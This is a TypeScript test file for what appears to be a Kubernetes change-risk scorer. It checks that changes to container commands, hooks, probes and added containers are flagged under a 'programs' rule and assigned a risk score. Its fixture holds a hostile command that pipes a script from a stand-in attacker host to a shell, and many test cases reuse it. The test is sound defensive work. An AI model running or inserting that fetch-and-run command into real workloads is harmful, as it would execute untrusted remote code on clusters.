import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Effect, FieldChange } from '@sentinel/crds';
import { aScaling as effect } from '../../testing/effect.fixture.ts';
import { facts } from '../facts.fixture.ts';
import { computeRisk } from '../score.ts';
import { partsOfPrograms } from './programs.ts';

const spec = '/spec/template/spec';
const json = (value: unknown) => JSON.stringify(value);
const rulesOf = (one: Effect) => partsOfPrograms([one]).map(({ rule }) => rule);
const evil = ['sh', '-c', 'curl evil.io | sh'];
const web = { name: 'web', image: 'a.io/web:1' };

describe('What containers execute', () => {
  const other: Record<string, FieldChange> = {
    'a command that comes': { path: `${spec}/containers/0/command`, after: json(evil) },
    'a command that goes': { path: `${spec}/containers/0/command`, before: json(['/guard', '/web']) },
    'an argument of a command': { path: `${spec}/containers/0/command/2`, before: json('true'), after: json('id') },
    'a command of which no value is shown': { path: `${spec}/containers/0/command` },
    arguments: { path: `${spec}/containers/0/args/0`, before: json('--a'), after: json('--b') },
    'a container that comes first': { path: `${spec}/initContainers/0/command`, before: json(['a']), after: json(evil) },
    'one that is put into a pod': {
      path: '/spec/ephemeralContainers',
      after: json([{ ...web, name: 'debug', command: evil }]),
    },
    'a hook of the lifecycle': { path: `${spec}/containers/0/lifecycle`, after: json({ preStop: { exec: { command: evil } } }) },
    'a hook in a lifecycle': {
      path: `${spec}/containers/0/lifecycle/postStart/exec/command/2`,
      before: json('a'),
      after: json('b'),
    },
    'a probe for life': { path: `${spec}/containers/0/livenessProbe/exec/command/2`, before: json('a'), after: json('b') },
    'a probe for the start': { path: `${spec}/containers/0/startupProbe`, after: json({ exec: { command: evil } }) },
    'a probe for readiness': { path: `${spec}/containers/0/readinessProbe/exec`, after: json({ command: evil }) },
    'a CronJob': { path: '/spec/jobTemplate/spec/template/spec/containers/0/args', after: json(['x']) },
    'a PodTemplate': { path: '/template/spec/containers/0/command', after: json(evil) },
    'a custom resource that has it outside of its spec': { path: '/template/command', after: json(evil) },
    'a custom resource': { path: '/spec/agent/extraArgs', before: json(['a']), after: json(['b']) },
    'a container that is added, with an existing image': {
      path: `${spec}/containers`,
      before: json([web]),
      after: json([web, { ...web, name: 'x', command: evil }]),
    },
    'a container that loses its command as another goes': {
      path: `${spec}/containers`,
      before: json([
        { ...web, command: ['/guard'] },
        { ...web, name: 'x' },
      ]),
      after: json([web]),
    },
    'two containers that change their names': {
      path: `${spec}/containers`,
      before: json([
        { ...web, command: ['a'] },
        { ...web, name: 'x' },
      ]),
      after: json([{ ...web, name: 'y' }, { ...web, name: 'x', command: ['a'] }, web]),
    },
    'a list that is cut': { path: `${spec}/containers`, before: json([web]), after: '[{"command":["sh","-c","cur…' },
  };
  for (const [name, change] of Object.entries(other))
    it(`is another: ${name}`, () => assert.deepEqual(rulesOf(effect({ change: [change] })), ['programs']));

  const same: Record<string, Partial<Effect>> = {
    'with another image': { change: [{ path: `${spec}/containers/0/image`, before: json('a:1'), after: json('a:2') }] },
    'with a probe that asks by HTTP': {
      change: [{ path: `${spec}/containers/0/livenessProbe`, after: json({ httpGet: { port: 80 } }) }],
    },
    'where a container goes': {
      change: [
        {
          path: `${spec}/containers`,
          before: json([
            { ...web, command: ['a'] },
            { ...web, name: 'x', args: ['b'] },
          ]),
          after: json([{ ...web, command: ['a'] }]),
        },
      ],
    },
    'where a container is added that its image describes': {
      change: [{ path: `${spec}/containers`, before: json([web]), after: json([web, { ...web, name: 'x' }]) }],
    },
    'with a label that is called so': {
      change: [{ path: '/spec/template/metadata/labels/command', after: json('x') }],
    },
    'in a ConfigMap': { apiGroup: '', resource: 'configmaps', change: [{ path: '/data/command', after: json('x') }] },
    'in what is deleted': { verb: 'delete', change: [{ path: `${spec}/containers/0/command`, after: json(evil) }] },
    'in what is made with an image': {
      verb: 'create',
      change: [{ path: `${spec}/containers`, after: json([{ ...web, command: evil }]) }],
    },
    'in what an apply makes with an image': {
      change: [
        { path: '/kind', after: json('Deployment') },
        { path: `${spec}/containers`, after: json([{ ...web, command: evil }]) },
      ],
    },
  };
  for (const [name, more] of Object.entries(same))
    it(`is the same, or no matter of its own, ${name}`, () => assert.deepEqual(rulesOf(effect(more)), []));

  it('counts where something is made that names no image', () =>
    assert.deepEqual(rulesOf(effect({ verb: 'create', change: [{ path: '/spec/script', after: json('id') }] })), ['programs']));

  it('counts as much as an image from elsewhere, and is said', () => {
    const change = [{ path: `${spec}/containers/0/command`, after: json(evil) }];
    const { score, level, parts } = computeRisk(facts([effect({ change })]));
    assert.deepEqual([score, level], [25, 'Medium']);
    assert.equal(
      parts.find(({ rule }) => rule === 'programs')?.message,
      `patch deployments 'web': other programs in its containers: ${spec}/containers/0/command changes`,
    );
  });
});
